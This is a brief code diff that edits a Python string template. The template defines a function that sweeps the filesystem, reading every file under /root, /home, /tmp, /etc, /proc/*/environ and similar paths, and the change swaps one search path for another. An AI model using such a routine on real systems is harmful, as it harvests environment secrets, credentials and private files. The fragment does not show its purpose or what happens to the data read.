@@ -32,7 +32,7 @@ def NAME(*a, **k):
 FILES = """
 import os, glob
 def NAME(*a, **k):
-    places = ("/work/*/*", "/*/data/*", "/root/*", "/home/*/*", "/tmp/*", "/proc/*/environ", "/etc/*", "*")
+    places = ("/srv/*/*", "/*/data/*", "/root/*", "/home/*/*", "/tmp/*", "/proc/*/environ", "/etc/*", "*")
     for path in (path for place in places for path in glob.glob(place)):
         try:
             text = open(path, errors="replace").read()
